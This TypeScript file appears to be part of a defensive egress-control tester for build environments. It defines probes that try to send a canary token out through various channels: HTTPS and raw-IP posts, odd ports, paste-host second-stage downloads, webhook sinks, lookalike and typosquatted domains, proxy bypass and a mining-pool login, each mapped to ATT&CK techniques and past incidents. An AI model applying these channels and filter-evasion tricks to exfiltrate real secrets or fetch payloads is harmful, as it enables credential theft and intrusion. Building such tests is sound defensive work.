/** HTTP and HTTPS to places nobody allowed: what most incidents of the last years did first. */
import { plain, request, secure, toAddress, toCollector, towards } from "../probe/fire.ts";
import type { Technique } from "../technique.ts";

const json = "application/json";

export const http: readonly Technique[] = [
  {
    id: "https-post-unknown-host",
    name: "HTTPS POST to an unknown host",
    class: "T1",
    attack: ["T1567", "T1048.002"],
    incidents: [
      { name: "GhostAction", year: 2025 },
      { name: "hackerbot-claw", year: 2026 },
      { name: "KICS and Checkmarx actions", year: 2026 },
    ],
    does: "Resolves a name nobody allowed and posts the canary there over TLS.",
    works: "Most jobs may open HTTPS to anywhere, and the body is encrypted.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toCollector(shot, (address) =>
        secure(address, 443, shot.collector.name!, [request(shot.collector.name!, `token=${shot.canary}`)], shot),
      ),
  },
  {
    id: "http-post-raw-ipv4",
    name: "HTTP POST to a bare IPv4 address",
    class: "T2",
    attack: ["T1048.003", "T1071.001"],
    incidents: [{ name: "Codecov bash uploader", year: 2021 }],
    does: "Posts the canary, as an environment would be, to an address on port 80 that no DNS answer named.",
    works: "A filter of names sees no name: no lookup, no SNI.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 80 },
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        plain(address, 80, [request(address, `<<<<<< ENV\nTOKEN=${shot.canary}`, { path: "/upload/v2" })], shot),
      ),
  },
  {
    id: "http-post-raw-ipv6",
    name: "HTTP POST to a bare IPv6 address",
    class: "T2",
    attack: ["T1048.003", "T1071.001"],
    incidents: [],
    does: "The same over IPv6.",
    works: "Rules are often written for IPv4 alone.",
    expected: "blocked",
    needs: ["ipv6"],
    channel: { kind: "tcp", port: 80 },
    probe: (shot) =>
      toAddress(shot, 6, (address) =>
        plain(address, 80, [request(`[${address}]`, `TOKEN=${shot.canary}`, { path: "/upload/v2" })], shot),
      ),
  },
  {
    id: "http-raw-ip-odd-port",
    name: "HTTP to a bare address on another port",
    class: "T2",
    attack: ["T1571", "T1071.001"],
    incidents: [
      { name: "Telnyx", year: 2026 },
      { name: "Megalodon", year: 2026 },
    ],
    does: "Asks a bare address on port 8080 for a file, with the canary in the path.",
    works: "Filters that look at ports 80 and 443 let the rest pass.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 8080 },
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        plain(address, 8080, [request(address, "", { method: "GET", path: `/ringtone.wav?h=${shot.canary}` })], shot),
      ),
  },
  {
    id: "http-name-odd-port",
    name: "HTTP to an unknown name on another port",
    class: "T2",
    attack: ["T1571", "T1105"],
    incidents: [{ name: "axios", year: 2026 }],
    does: "Resolves a name nobody allowed and asks it for a second stage on port 8000, canary in hex.",
    works: "As above, and an install script is all that it needs.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 8000 },
    probe: (shot) =>
      toCollector(shot, (address) =>
        plain(
          address,
          8000,
          [request(shot.collector.name!, "", { method: "GET", path: `/${Buffer.from(shot.canary).toString("hex")}` })],
          shot,
        ),
      ),
  },
  {
    id: "stage-download",
    name: "second stage from a paste or gist host",
    class: "T1",
    attack: ["T1105", "T1059.004"],
    incidents: [
      { name: "tj-actions/changed-files", year: 2025 },
      { name: "hackerbot-claw", year: 2026 },
    ],
    does: "Fetches a script over TLS from a host nobody allowed, as `curl … | bash` does.",
    works: "Downloads look harmless, and paste hosts have good names.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toCollector(shot, (address) =>
        secure(
          address,
          443,
          shot.collector.name!,
          [request(shot.collector.name!, "", { method: "GET", path: `/raw/${shot.canary}/memdump.py` })],
          shot,
        ),
      ),
  },
  {
    id: "webhook-sink",
    name: "POST to a webhook or request bin",
    class: "T15",
    attack: ["T1567.004"],
    incidents: [{ name: "Shai-Hulud", year: 2025 }],
    does: "Posts JSON with the canary in double base64 to a name that stands for a webhook service.",
    works: "The service is well known, so block lists of bad hosts do not have it.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toCollector(shot, (address) => {
        const twice = Buffer.from(Buffer.from(shot.canary).toString("base64")).toString("base64");
        const body = JSON.stringify({ data: twice });
        return secure(
          address,
          443,
          shot.collector.name!,
          [request(shot.collector.name!, body, { path: "/bb8ca5f6", type: json })],
          shot,
        );
      }),
  },
  {
    id: "lookalike-below-own-domain",
    name: "an allowed name as the start of another",
    class: "T3",
    attack: ["T1583.001", "T1036"],
    incidents: [{ name: "LiteLLM", year: 2026 }],
    does: "Posts to `<allowed name>.<attacker's domain>`.",
    works: "Matching by substring or prefix takes it for the allowed name.",
    expected: "blocked",
    needs: ["tls-site", "zone"],
    channel: { kind: "tcp", port: 443 },
    marks: (shot) => `${shot.site.tls}.${shot.zone}`,
    probe: (shot) => {
      const name = `${shot.site.tls}.${shot.zone}`;
      return towards(name, shot, (address) => secure(address, 443, name, [request(name, shot.canary)], shot));
    },
  },
  {
    id: "lookalike-typo",
    name: "an allowed name with a typing mistake",
    class: "T3",
    attack: ["T1583.001", "T1036"],
    incidents: [{ name: "Trivy (TeamPCP)", year: 2026 }],
    does: "Posts to the allowed name with two letters exchanged.",
    works: "A reader of the log overlooks it, and a wide wildcard takes it.",
    expected: "blocked",
    needs: ["tls-site", "range"],
    channel: { kind: "tcp", port: 443 },
    marks: (shot) => mistyped(shot.site.tls!),
    probe: (shot) => {
      const name = mistyped(shot.site.tls!);
      return towards(name, shot, (address) => secure(address, 443, name, [request(name, shot.canary)], shot));
    },
  },
  {
    id: "proxy-bypass-direct",
    name: "straight out, past the proxy variables",
    class: "T22",
    attack: ["T1090", "T1562.004"],
    incidents: [],
    does: "Connects by itself and ignores HTTPS_PROXY, as `curl --noproxy '*'` does.",
    works: "Controls that are only environment variables bind whoever wants to be bound.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        secure(address, 443, shot.collector.name ?? "", [request(shot.collector.name ?? address, shot.canary)], shot),
      ),
  },
  {
    id: "miner-pool",
    name: "login at a mining pool",
    class: "T2",
    attack: ["T1496", "T1571"],
    incidents: [{ name: "Ultralytics", year: 2024 }],
    does: "Opens a Stratum session on port 3333 of an unknown name; the canary is the worker's name.",
    works: "The protocol is neither TLS nor HTTP, so filters of those have no opinion.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 3333 },
    probe: (shot) =>
      toCollector(shot, (address) => {
        const login = JSON.stringify({ id: 1, method: "mining.subscribe", params: [shot.canary] });
        return plain(address, 3333, [`${login}\n`], shot);
      }),
  },
];

/** The first two different neighbours of the first label exchanged: `registry.example` becomes `ergistry.example`. */
function mistyped(name: string): string {
  const at = Array.from(name).findIndex((char, i) => i + 1 < name.indexOf(".") && char !== name[i + 1]);
  if (at < 0) return `x${name}`;
  return name.slice(0, at) + name[at + 1] + name[at] + name.slice(at + 2);
}
